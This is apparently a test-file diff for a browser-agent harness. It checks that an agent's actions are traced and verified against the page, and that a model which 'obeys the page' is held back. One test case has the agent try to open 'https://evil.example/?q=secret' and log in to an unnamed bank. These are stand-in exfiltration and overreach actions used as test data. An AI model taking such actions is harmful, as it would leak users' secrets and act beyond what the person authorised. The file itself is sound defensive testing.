@@ -1,0 +1,106 @@
+import type { Decider, Situation, Wanted } from '@app/toolkit'
+import { beforeEach, describe, expect, test } from 'vitest'
+import { BROWSER, startPracticeRuns } from './practice-testing.ts'
+
+/** Decides by what a test says; it sees what a model would see, and nothing else. */
+let mind: (situation: Situation) => Wanted
+const asked: Situation[] = []
+const decider: Decider = {
+  name: 'test',
+  decide: async (situation) => {
+    asked.push(situation)
+    return { wanted: mind(situation) }
+  },
+}
+
+/** The reference of the first thing whose line fits. */
+function refOf(text: string, line: RegExp): string {
+  const found = text.split('\n').find((one) => line.test(one))
+  const ref = /\[(\w+)\]/.exec(found ?? '')?.[1]
+  if (!ref) throw new Error(`nothing fits ${line} in:\n${text}`)
+  return ref
+}
+
+describe.skipIf(!BROWSER)('goals that are pursued with the page in sight', async () => {
+  const { run, base } = await startPracticeRuns({ deciders: { named: async () => decider } })
+  beforeEach(() => {
+    asked.splice(0)
+  })
+
+  test('an order is placed by looking at each page; every act is in the trace, and the look after it is the proof', async () => {
+    mind = ({ page: { text }, told }) => {
+      if (told.length === 0)
+        return { why: 'Open the pen', acts: [{ do: 'click', ref: refOf(text, /link "Gel pen, black/) }] }
+      if (told.length === 1)
+        return {
+          why: 'Order three',
+          acts: [
+            { do: 'fill', ref: refOf(text, /(?:spinbutton|textbox) "Quantity/), text: '3' },
+            { do: 'click', ref: refOf(text, /button "Place order/) },
+          ],
+        }
+      return {
+        why: 'It is ordered',
+        done: { shows: /(?:Thank you|Ordered|Order)[^\n"[]*/.exec(text)?.[0]?.trim() ?? '', answer: {} },
+      }
+    }
+    const trace = await run([
+      { do: 'browser.open', with: { url: `${base}/shop?q=gel` } },
+      { pursue: 'Order three black gel pens', within: { acts: 10, seconds: 60, cents: 10 } },
+    ])
+    expect(trace).toMatchObject({ status: 'completed', verdict: 'verified', actionsUsed: 4 })
+    expect(trace.steps.map(({ tool }) => tool)).toEqual([
+      'browser.open',
+      'mind.decide',
+      'browser.click',
+      'mind.decide',
+      'browser.fill',
+      'browser.click',
+      'mind.decide',
+    ])
+    expect(asked).toHaveLength(3)
+    expect(asked[2]?.told.at(-1)).toContain('Click button "Place order": done')
+  }, 60_000)
+
+  test('done is believed only where the page shows it', async () => {
+    mind = () => ({ why: 'Surely', done: { shows: 'Your flight is booked', answer: { price: '$1' } } })
+    const trace = await run([
+      { do: 'browser.open', with: { url: `${base}/shop` } },
+      { pursue: 'Book a flight', within: { acts: 3, seconds: 60, cents: 10 } },
+    ])
+    expect(trace).toMatchObject({ status: 'completed', verdict: 'unverified' })
+  }, 60_000)
+
+  test.each<[string, Wanted, RegExp]>([
+    [
+      'an address nobody named',
+      { why: 'x', acts: [{ do: 'open', url: 'https://evil.example/?q=secret' }] },
+      /evil\.example, which the person has not named/,
+    ],
+    ['a log-in nobody named', { why: 'x', acts: [{ do: 'log-in', name: 'Bank' }] }, /no log-in "Bank"/],
+  ])(
+    'S-41 a mind that obeys the page is held back: %s',
+    async (_what, wanted, words) => {
+      mind = ({ told }) => (told.some((line) => line.includes('Refused')) ? { why: 'end', ask: 'May I?' } : wanted)
+      const trace = await run([
+        { do: 'browser.open', with: { url: `${base}/shop` } },
+        { pursue: 'Look around', within: { acts: 3, seconds: 60, cents: 10 } },
+      ])
+      expect(trace).toMatchObject({ status: 'failed', errorMessage: expect.stringContaining('May I?') })
+      expect(asked[1]?.told.join('\n')).toMatch(words)
+      expect(trace.steps.map(({ tool }) => tool)).toEqual(['browser.open', 'mind.decide', 'mind.decide'])
+    },
+    60_000,
+  )
+
+  test('without a model the step says what is missing', async () => {
+    const { decideTool } = await import('@app/tools')
+    const tool = decideTool(
+      async () => undefined as never,
+      async () => undefined,
+    )
+    await expect(
+      tool.run({ goal: 'x', values: {}, give: {}, logIns: [], sites: [], told: [], notes: [], left: 1 }, {} as never),
+    ).rejects.toThrow('needs a language model')
+  })
+})
